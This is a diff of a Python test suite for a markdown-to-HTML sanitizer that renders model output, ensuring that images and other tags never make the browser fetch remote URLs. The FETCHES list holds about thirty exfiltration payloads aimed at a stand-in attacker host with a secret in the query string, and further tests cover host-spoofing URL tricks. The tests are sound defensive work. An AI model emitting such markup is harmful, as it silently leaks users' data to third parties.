@@ -187,7 +187,9 @@ def test_links_and_images() -> None:
     out = markdown_html('[site](http://example.com/x "T") <https://example.com> ![pic](https://example.com/a.png)')
     assert '<a href="http://example.com/x" title="T" rel="noopener noreferrer nofollow">site</a>' in out
     assert '<a href="https://example.com" rel="noopener noreferrer nofollow">' in out
-    assert '<img src="https://example.com/a.png" alt="pic">' in out
+    # An image is a link to it, its host in the text, never loaded.
+    assert '<a href="https://example.com/a.png" rel="noopener noreferrer nofollow">[image: pic — example.com]</a>' in out
+    assert "<img" not in out
     assert 'href="mailto:a@example.com"' in markdown_html("<a@example.com>")
     assert 'href="#part"' in markdown_html("[p](#part)")
 
@@ -446,3 +448,114 @@ def test_long_answer_renders() -> None:
     assert_safe(html_out)
     assert_safe(block)
     assert_safe(markdown_block("\\( x " * 8000 + "$" * 4000))  # unclosed openers: linear, still safe
+
+
+# -- remote images: never fetched, shown as a link naming the host (zero-click leak) --------
+
+LEAK = "https://attacker.example/p.png?d=secret"
+# Every way model text could ask a browser to load a URL by itself.
+FETCHES = [
+    f"![chart]({LEAK})",
+    f"![chart](<{LEAK}>)",
+    f'![chart]({LEAK} "title")',
+    f"![chart][ref]\n\n[ref]: {LEAK}",
+    f"![chart][]\n\n[chart]: <{LEAK}> 'title'",
+    f"![ref]\n\n[ref]: {LEAK}",
+    f"[![chart]({LEAK})](https://ok.example/)",
+    f"![outer ![inner]({LEAK})]({LEAK})",
+    f"| a |\n|---|\n| ![c]({LEAK}) |",
+    f"# ![c]({LEAK})",
+    f"- ![c]({LEAK})",
+    f"> ![c]({LEAK})",
+    f"**![c]({LEAK})**",
+    f'<img src="{LEAK}">',
+    f'<img srcset="{LEAK} 1x">',
+    f'<picture><source srcset="{LEAK}"></picture>',
+    f'<video poster="{LEAK}"></video>',
+    f'<video src="{LEAK}"></video><audio src="{LEAK}"></audio>',
+    f'<svg><image href="{LEAK}"/></svg>',
+    f'<svg><image xlink:href="{LEAK}"/></svg>',
+    f'<p style="background: url({LEAK})">x</p>',
+    f"<style>body {{ background: url({LEAK}) }}</style>",
+    f'<link rel="stylesheet" href="{LEAK}">',
+    f'<link rel="prefetch" href="{LEAK}">',
+    f'<input type="image" src="{LEAK}">',
+    f'<object data="{LEAK}"></object><embed src="{LEAK}">',
+    f'<iframe src="{LEAK}"></iframe>',
+    f'<body background="{LEAK}">',
+    f'<table background="{LEAK}"><tr><td background="{LEAK}">x</td></tr></table>',
+]
+
+
+def _loads(markup: str) -> list[str]:
+    """Tags or attributes in ``markup`` (stdlib parser) that would make a browser fetch something."""
+    from html_check import Collector
+
+    found = Collector()
+    found.feed(markup)
+    found.close()
+    fetching_tags = {"img", "image", "video", "audio", "source", "picture", "track", "link", "input",
+                     "object", "embed", "iframe", "frame", "script", "style", "svg", "body", "meta", "base"}
+    bad = [f"<{tag}>" for tag, _ in found.starts if tag in fetching_tags]
+    for tag, attrs in found.starts:
+        for name, value in attrs:
+            if name in ("src", "srcset", "poster", "background", "data", "style", "xlink:href") or (
+                    name == "href" and tag != "a"):
+                bad.append(f"{name}= on <{tag}>")
+    return bad
+
+
+def test_fetch_checker_can_fail() -> None:
+    assert _loads(f'<img src="{LEAK}">') and _loads(f'<p style="background: url({LEAK})">x</p>')
+    assert _loads(f'<svg><image href="{LEAK}"/></svg>') and not _loads(f'<a href="{LEAK}">x</a>')
+
+
+@pytest.mark.parametrize("text", FETCHES)
+def test_model_text_never_makes_the_browser_fetch(text: str) -> None:
+    for out in (markdown_html(text), markdown_block(text), _passthrough.render(markdown_block(text))):
+        assert _loads(out) == [], out
+        assert_safe(out)
+
+
+@pytest.mark.parametrize("text", [f for f in FETCHES if f.startswith(("![", "| a", "# ", "- ", "> ", "**"))])
+def test_remote_image_is_a_link_naming_its_host(text: str) -> None:
+    out = markdown_html(text)
+    assert '<a href="https://attacker.example/p.png?d=secret" rel="noopener noreferrer nofollow">[image' in out
+    assert "— attacker.example]</a>" in out
+
+
+def test_image_inside_a_link_names_no_host_the_click_does_not_go_to() -> None:
+    out = markdown_html(f"[![chart]({LEAK})](https://ok.example/)")
+    assert out == '<p><a href="https://ok.example/" rel="noopener noreferrer nofollow">[image: chart]</a></p>\n'
+
+
+def test_image_label_shows_the_host_the_browser_would_contact() -> None:
+    # userinfo before the last @, percent escapes, default ports, special-scheme slashes
+    cases = {
+        "https://trusted.example@evil.example/p.png": "evil.example",
+        "https://trusted.example%40x@Evil.Example:443/p.png": "evil.example",
+        "http://ex%61mple.com:8080/p": "example.com:8080",
+        "http:evil.example/p.png": "evil.example",
+        "//evil.example/p.png": "evil.example",
+        "https://evil.example\\@trusted.example/": "evil.example",
+        "http://[::1]:9/p": "[::1]:9",
+    }
+    for url, host in cases.items():
+        assert safe.url_host(url) == host, url
+        assert safe.image_label("x", url) == f"[image: x — {host}]"
+    assert safe.image_label("", "plots/a.png") == "[image — a local path]"
+    assert safe.image_label("a\n  b", "data:image/png;base64,AAAA") == "[image: a b — inline data, not shown]"
+
+
+def test_data_image_in_model_text_is_a_label_not_an_image_nor_a_link() -> None:
+    out = markdown_html("![fig](data:image/png;base64,iVBORw0KGgo=)")
+    assert out == "<p>[image: fig — inline data, not shown]</p>\n"
+
+
+def test_markdown_text_keeps_server_text_out_of_markdown_syntax() -> None:
+    model = f"kimi ![x]({LEAK}) <b>*x*</b> $y$ [l](https://e.example)"
+    line = f"<sub>{safe.markdown_text(model)}</sub>"
+    rendered = _passthrough.render(line)
+    assert _loads(rendered) == [] and "<a " not in rendered and "<em>" not in rendered and "<b>" not in rendered
+    assert "kimi ![x](https://attacker.example/p.png?d=secret) &lt;b&gt;*x*&lt;/b&gt; $y$" in rendered
+    assert "\n" not in safe.markdown_text("a\nb\r\nc")
